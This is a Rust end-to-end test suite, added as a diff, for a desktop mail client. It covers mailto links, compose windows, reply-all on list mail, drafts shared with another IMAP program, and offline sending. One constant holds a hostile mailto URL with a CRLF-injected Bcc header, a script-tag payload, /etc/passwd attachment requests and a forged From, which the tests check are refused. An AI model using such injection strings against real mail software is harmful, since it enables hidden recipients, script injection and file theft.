@@ -1,0 +1,241 @@
+//! Writing beyond the first message: to addresses from elsewhere, in windows of its own, offline, together with another program.
+
+use crate::app::App;
+use crate::world::{World, letter, written};
+use crate::writing::{text, there, undo_for, write};
+use serde_json::{Value, json};
+use std::time::Duration;
+use testkit::imap::Imap;
+use testkit::mail::{Part, Person};
+use testkit::smtp::{Deed, Rule, Stage};
+use testkit::{Context, Result};
+
+/// How long a message may take from "Send" to its server.
+const PATIENCE: Duration = Duration::from_secs(60);
+
+/// What an evil page would have the mail program write.
+const HOSTILE: &str = "mailto:bob@meadow.example?cc=carol@meadow.example&bcc=eve@meadow.example\
+    &subject=Hello%0D%0ABcc:%20mallory@evil.example&body=One%0D%0A%3Cscript%3Ealert(1)%3C/script%3E\
+    &attach=/etc/passwd&attachment=/etc/passwd&from=mallory@evil.example&X-Evil=1";
+
+/// The drafts as the store has them.
+fn drafts(app: &App) -> Result<Vec<Value>> {
+    let found = app.driver().script("return window.__TAURI_INTERNALS__.invoke('drafts')", &[])?;
+    Ok(found.as_array().cloned().unwrap_or_default())
+}
+
+/// Waits until a draft in the store holds this.
+fn kept(app: &App, words: &str) -> Result<Value> {
+    app.wait(&format!("a draft with {words:?}"), || {
+        Ok(drafts(app)?.into_iter().find(|draft| draft.to_string().contains(words)))
+    })
+}
+
+/// The text area of the message in front.
+fn type_text(app: &App, words: &str) -> Result<()> {
+    write(app, "textbox", "Message text", words)
+}
+
+/// Addresses of recipients that the page shows.
+fn chips(app: &App) -> Result<Vec<String>> {
+    Ok(app
+        .all("button", |name| name.contains('@') && !name.starts_with("Remove"))?
+        .into_iter()
+        .map(|(_, n)| n)
+        .collect())
+}
+
+#[test]
+fn a_mailto_from_the_system_is_written_in_a_window_of_its_own_and_carries_nothing_else() -> Result<()> {
+    let world = World::start()?;
+    let html = "<p>Write to <a href=\"mailto:dora@meadow.example?subject=From%20a%20link\">Dora</a>.</p>\
+                <table><tr><td>cheap</td><td>a <b>bold</b> price</td></tr></table>";
+    world.put("alice", &written("An address", Part::html(html)))?;
+    let app = App::with_accounts(&[world.form("alice")])?;
+    app.driver().resize(1360, 860)?;
+    app.open("An address")?;
+    undo_for(&app, 1)?;
+
+    app.start_beside(HOSTILE)?;
+    let name = "Hello Bcc: mallory@evil.example";
+    app.find("dialog", name)?;
+    let draft = kept(&app, "mallory")?;
+    let of = |field: &str| -> Vec<String> {
+        draft[field].as_array().into_iter().flatten().map(|r| r["email"].as_str().unwrap().to_owned()).collect()
+    };
+    assert_eq!(
+        (of("to"), of("cc"), of("bcc")),
+        (
+            vec!["bob@meadow.example".to_owned()],
+            vec!["carol@meadow.example".to_owned()],
+            vec!["eve@meadow.example".to_owned()]
+        )
+    );
+    assert_eq!(draft["files"], json!([]), "nothing is attached that nobody attached");
+    assert_eq!(chips(&app)?.len(), 3, "the blind copy is shown: {:?}", chips(&app)?);
+    app.see("<script>alert(1)</script>")?;
+    app.picture("mailto")?;
+
+    // In a window of its own: what is written there is in the store, and the main window has let go of it.
+    let main = app.driver().windows()?.into_iter().next().context("no window")?;
+    app.click("button", "Write in a window of its own")?;
+    let own = app.wait("a window of its own", || Ok(app.driver().windows()?.into_iter().find(|w| *w != main)))?;
+    app.wait("the sheet put away", || Ok((!app.has("dialog", name)?).then_some(())))?;
+    app.driver().switch(&own)?;
+    app.find("dialog", name)?;
+    type_text(&app, "Written beside. ")?;
+    kept(&app, "Written beside.")?;
+    app.picture("mailto-window")?;
+
+    // It comes back, and goes out from there, to those who were seen.
+    app.click("button", "Write in the main window")?;
+    app.driver().switch(&main)?;
+    app.find("dialog", name)?;
+    app.see("Written beside.")?;
+    app.wait("one window", || Ok((app.driver().windows()?.len() == 1).then_some(())))?;
+    app.click("button", "Write in a window of its own")?;
+    let own = app.wait("a window of its own", || Ok(app.driver().windows()?.into_iter().find(|w| *w != main)))?;
+    app.driver().switch(&own)?;
+    app.click("button", "Send")?;
+    app.driver().switch(&main)?;
+    let sent = world.smtp.wait(1, PATIENCE)?;
+    let mut to = sent[0].to.clone();
+    to.sort();
+    assert_eq!(to, ["bob@meadow.example", "carol@meadow.example", "eve@meadow.example"]);
+    assert_eq!(sent[0].from, "alice@meadow.example");
+    let message = text(&sent[0].message);
+    let head = message.split("\r\n\r\n").next().unwrap_or_default().to_lowercase();
+    for absent in ["\r\nbcc:", "x-evil", "attachment", "\r\nfrom: mallory"] {
+        assert!(!head.contains(absent), "{absent}: {head}");
+    }
+    assert!(!message.contains("<script") && !message.contains("root:"), "{message}");
+
+    // A link in a mail opens the composer, and no other program.
+    let place =
+        "const r = document.querySelector('a').getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]";
+    app.open("An address")?;
+    app.read("Write to Dora")?;
+    let at = app.in_mail(place)?;
+    app.click_in_mail(&at)?;
+    app.find("dialog", "From a link")?;
+    assert_eq!(app.desk.opened(), Vec::<String>::new());
+    app.click("button", "Discard")?;
+
+    // A selected passage is quoted as it looks, and alone.
+    let select = "const s = getSelection(); s.selectAllChildren(document.querySelectorAll('td')[1]); \
+                  const r = document.querySelectorAll('td')[0].getBoundingClientRect(); return [r.x + 2, r.y + r.height + 40]";
+    app.wait("the selection told to the window", || {
+        app.in_mail(select)?;
+        app.press("r")?;
+        Ok((!app.all("dialog", |name| name == "Re: An address")?.is_empty()).then_some(()))
+    })?;
+    let answer = kept(&app, "Re: An address")?;
+    let quote = answer["html"].as_str().unwrap_or_default().to_owned();
+    assert!(quote.contains("<b>bold</b>") && quote.contains("<td"), "{quote}");
+    assert!(!quote.contains("cheap") && !quote.contains("Dora"), "{quote}");
+    app.assert_silent();
+    Ok(())
+}
+
+/// Two pixels of a picture, as base64.
+const PICTURE: &str =
+    "iVBORw0KGgoAAAANSUhEUgAAAAIAAAABCAIAAAB7QOjdAAAAD0lEQVR4nGPY4Gin7X8EAAhHAm4Ff9O3AAAAAElFTkSuQmCC";
+
+#[test]
+fn offline_in_two_programs_and_from_the_right_address_each_message_is_whole_and_goes_out_once() -> Result<()> {
+    let mut world = World::start()?;
+    // To a list, delivered to an address of the person's own that is not the account's.
+    let list = Person::new("Gardeners", "gardeners@lists.example");
+    let asked = letter("Seeds", "Who has seeds?")
+        .cc(&Person::new("Bob", "bob@meadow.example"))
+        .header("List-Id", "<gardeners.lists.example>")
+        .header("List-Post", "<mailto:gardeners@lists.example>")
+        .header("Delivered-To", "alice+garden@meadow.example")
+        .also_to(&list);
+    world.put("alice", &asked)?;
+    let mut app = App::with_accounts(&[world.form("alice")])?;
+    app.driver().resize(1360, 860)?;
+    app.open("Seeds")?;
+    app.read("Who has seeds?")?;
+    app.state("Up to date")?;
+    undo_for(&app, 1)?;
+
+    // Reply all: everybody but oneself, from the address that it came to, with a picture in the text.
+    app.press("a")?;
+    app.find("dialog", "Re: Seeds")?;
+    type_text(&app, "I have some.")?;
+    let paste = "const bytes = Uint8Array.from(atob(arguments[0]), (c) => c.charCodeAt(0)); const data = new DataTransfer(); \
+                 data.items.add(new File([bytes], 'seed.png', { type: 'image/png' })); const box = document.querySelector('[contenteditable]'); \
+                 box.focus(); box.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }))";
+    app.driver().script(paste, &[json!(PICTURE)])?;
+    app.wait("the picture in the store", || {
+        Ok(kept(&app, "I have some.")?["html"].as_str().is_some_and(|h| h.contains("cid:")).then_some(()))
+    })?;
+    app.picture("reply-all")?;
+    app.click("button", "Send")?;
+    app.wait("what has to be known is confirmed, or it is on its way", || {
+        if let Some((button, _)) = app.all("button", |name| name == "Send anyway")?.first() {
+            app.driver().click(button)?;
+        }
+        Ok((!world.smtp.kept().is_empty()).then_some(()))
+    })?;
+    let answer = world.smtp.wait(1, PATIENCE)?.remove(0);
+    let mut to = answer.to.clone();
+    to.sort();
+    assert_eq!(to, ["bob@meadow.example", "gardeners@lists.example", "ines@caron.example"]);
+    let message = text(&answer.message);
+    assert!(message.contains("alice+garden@meadow.example"), "from where it came to: {message}");
+    assert!(message.replace("\r\n", "").contains(PICTURE), "the picture, byte for byte: {message}");
+    assert!(message.contains("multipart/related"), "{message}");
+
+    // A draft goes to the server, is written on by another program, and is taken up again.
+    app.press("c")?;
+    app.find("dialog", "New message")?;
+    write(&app, "combobox", "To", "bob@meadow.example,")?;
+    write(&app, "textbox", "Subject", "Shared draft")?;
+    type_text(&app, "Begun here.")?;
+    kept(&app, "Begun here.")?;
+    app.click("button", "Close, the draft is kept")?;
+    app.wait_within("the draft on the server", PATIENCE, || {
+        Ok((there(&world, "Drafts", "Shared draft")?.len() == 1).then_some(()))
+    })?;
+    let mut other = Imap::connect_tls(world.server.ports().imaps, world.server.authority())?;
+    other.login("alice", world.server.password("alice").context("alice")?)?;
+    other.run("SELECT Drafts")?;
+    let mail = "From: Alice Meadows <alice@meadow.example>\r\nTo: bob@meadow.example\r\nSubject: Shared draft\r\n\
+                Date: Mon, 23 Nov 2026 10:00:00 +0000\r\nMessage-ID: <other-program@meadow.example>\r\nMIME-Version: 1.0\r\n\
+                Content-Type: text/plain; charset=utf-8\r\n\r\nBegun here, gone on elsewhere.\r\n";
+    other.run("STORE 1 +FLAGS.SILENT (\\Deleted)")?;
+    other.run("EXPUNGE")?;
+    other.append("Drafts", "\\Draft \\Seen", crate::world::NOW, mail.as_bytes())?;
+    app.press("gd")?;
+    app.open("Shared draft")?;
+    app.read("gone on elsewhere")?;
+    app.press("r")?;
+    app.find("dialog", "Shared draft")?;
+    app.see("gone on elsewhere")?;
+
+    // The network goes; it is written on, sent, the program ended and begun again; the network comes back.
+    app.state("Up to date")?;
+    world.server.stop()?;
+    world.smtp.script(Rule { stage: Stage::Greeting, containing: String::new(), deed: Deed::HangUp, times: None });
+    type_text(&app, "Offline. ")?;
+    kept(&app, "Offline.")?;
+    app.click("button", "Send")?;
+    app.wait("in the outbox", || Ok((!app.has("dialog", "Shared draft")?).then_some(())))?;
+    app.quit()?;
+    app.restart()?;
+    app.see("1 message waits")?;
+    world.smtp.behave();
+    world.server.start_again()?;
+    let sent = world.smtp.wait(2, Duration::from_secs(120))?.remove(1);
+    let message = text(&sent.message);
+    assert!(message.contains("Offline.") && message.contains("gone on elsewhere"), "{message}");
+    app.wait_within("the copy in Sent, and no draft", PATIENCE, || {
+        Ok((there(&world, "Sent", "Shared draft")?.len() == 1 && there(&world, "Drafts", "Shared draft")?.is_empty())
+            .then_some(()))
+    })?;
+    assert_eq!(world.smtp.kept().len(), 2, "each went out once");
+    app.assert_silent();
+    Ok(())
+}
